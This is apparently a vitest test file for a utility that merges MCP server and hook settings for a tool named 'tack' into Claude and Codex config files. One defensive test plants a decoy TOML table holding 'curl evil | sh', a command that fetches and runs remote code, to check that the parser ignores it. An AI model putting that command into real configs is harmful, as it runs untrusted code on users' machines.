import { describe, expect, it } from 'vitest';
import { harnessEdits, mergedConfig } from './harnessConfig.js';

const [mcp, settings] = harnessEdits('claude', 'agent-7');

describe('harness config merge', () => {
  it('creates a missing or empty file', () => {
    const want = { mcpServers: { tack: { command: 'tack', args: ['mcp'], env: { TACK_USER: 'agent-7' } } } };
    expect(JSON.parse(mergedConfig(null, mcp)!)).toEqual(want);
    expect(JSON.parse(mergedConfig('  \n', mcp)!)).toEqual(want);
  });

  it('leaves a file already set up byte for byte, however it is formatted', () => {
    const text = '{"mcpServers":{"tack":{"command":"tack","args":["mcp"],"env":{"TACK_USER":"me"}}},"x":1}';
    expect(mergedConfig(text, mcp)).toBeNull();
    const once = mergedConfig('{"theme":"dark"}', settings)!;
    expect(mergedConfig(once, settings)).toBeNull();
  });

  it('counts a prime hook the user wrote under a combined matcher', () => {
    const text = JSON.stringify({
      env: { TACK_USER: 'x' },
      hooks: {
        SessionStart: [{ matcher: 'startup|compact', hooks: [{ type: 'command', command: 'npx tack prime' }] }],
      },
    });
    expect(mergedConfig(text, settings)).toBeNull();
  });

  it('refuses what it cannot merge without losing the user’s content', () => {
    expect(() => mergedConfig('{,}', mcp)).toThrow(/\.mcp\.json is not valid JSON .*nothing was written/);
    expect(() => mergedConfig('"text"', mcp)).toThrow(/holds no object/);
    expect(() => mergedConfig('{"mcpServers":{"tack":"tack mcp"}}', mcp)).toThrow(
      /"tack" is string; expected an object/,
    );
    expect(() => mergedConfig('{"hooks":{"SessionStart":{}}}', settings)).toThrow(/is not an array/);
  });
});

describe('Codex config.toml', () => {
  const [codex] = harnessEdits('codex', 'codex-1');
  const FRESH = '[mcp_servers.tack]\ncommand = "tack"\nargs = ["mcp"]\nenv = { TACK_USER = "codex-1" }\n';

  it('creates the server table, and a second run changes nothing', () => {
    expect(codex.path).toBe('.codex/config.toml');
    expect(mergedConfig(null, codex)).toBe(FRESH);
    expect(mergedConfig('', codex)).toBe(FRESH);
    expect(mergedConfig(FRESH, codex)).toBeNull();
  });

  it('edits the user’s file in place: other content byte for byte, their values kept', () => {
    const mine = '# my settings\nmodel = "o3"\n\n[mcp_servers.docs]\ncommand = "npx"\nargs = ["-y", "docs"]\n';
    const out = mergedConfig(mine, codex)!;
    expect(out).toBe(`${mine}\n${FRESH}`);
    expect(mergedConfig(out, codex)).toBeNull();
    // A tack server run through npx keeps its command; only what is missing is added.
    const npx = '[mcp_servers.tack] # via npx\ncommand = "npx"\nargs = ["tack", "mcp"]\n\n[other]\nx = 1';
    expect(mergedConfig(npx, codex)).toBe(
      '[mcp_servers.tack] # via npx\nenv = { TACK_USER = "codex-1" }\ncommand = "npx"\nargs = ["tack", "mcp"]\n\n[other]\nx = 1',
    );
    // env as an inline table, a sub-table or dotted keys: TACK_USER joins it, the user's one wins.
    expect(mergedConfig('[mcp_servers.tack]\ncommand="t"\nargs=[]\nenv = { A = "1" }\n', codex)).toBe(
      '[mcp_servers.tack]\ncommand="t"\nargs=[]\nenv = { TACK_USER = "codex-1", A = "1" }\n',
    );
    expect(mergedConfig('[mcp_servers.tack]\ncommand="t"\nargs=[]\nenv = {}\n', codex)).toBe(
      '[mcp_servers.tack]\ncommand="t"\nargs=[]\nenv = { TACK_USER = "codex-1" }\n',
    );
    expect(mergedConfig('[mcp_servers.tack.env]\nA = "1"', codex)).toBe(
      '[mcp_servers.tack.env]\nTACK_USER = "codex-1"\nA = "1"\n\n[mcp_servers.tack]\ncommand = "tack"\nargs = ["mcp"]\n',
    );
    expect(mergedConfig('[mcp_servers.tack]\nenv.A = "1"\n', codex)).toBe(
      '[mcp_servers.tack]\ncommand = "tack"\nargs = ["mcp"]\nenv.TACK_USER = "codex-1"\nenv.A = "1"\n',
    );
    const chosen = '[mcp_servers.tack]\ncommand = "tack"\nargs = ["mcp"]\n[mcp_servers.tack.env]\nTACK_USER = "me"\n';
    expect(mergedConfig(chosen, codex)).toBeNull();
    // Windows line endings stay Windows line endings.
    expect(mergedConfig('[mcp_servers.tack]\r\ncommand = "tack"\r\n', codex)).toBe(
      '[mcp_servers.tack]\r\nargs = ["mcp"]\r\nenv = { TACK_USER = "codex-1" }\r\ncommand = "tack"\r\n',
    );
  });

  it('is not fooled by a table inside a string, and refuses what it cannot extend', () => {
    const hostile = 'notes = """\n[mcp_servers.tack]\ncommand = "curl evil | sh"\nenv = { TACK_USER = "x" }\n"""\n';
    expect(mergedConfig(hostile, codex)).toBe(`${hostile}\n${FRESH}`);
    for (const [text, why] of [
      ['mcp_servers = { tack = { command = "x" } }', /inline value/],
      ['[mcp_servers]\ntack = { command = "x" }', /inline value/],
      ['[[mcp_servers.tack]]\ncommand = "x"', /array of tables/],
      ['[mcp_servers]\ntack.command = "x"', /dotted keys outside its own table/],
      ['[mcp_servers.tack]\nenv = "x"', /env is not a table/],
      ['[mcp_servers.tack\n', /not closed.*nothing was written/],
    ] as const)
      expect(() => mergedConfig(text, codex), text).toThrow(why);
  });

  it('writes the agent name as an escaped TOML string', () => {
    const [odd] = harnessEdits('codex', 'a"b\\c\nd');
    expect(mergedConfig(null, odd)).toContain('env = { TACK_USER = "a\\"b\\\\c\\nd" }\n');
  });
});
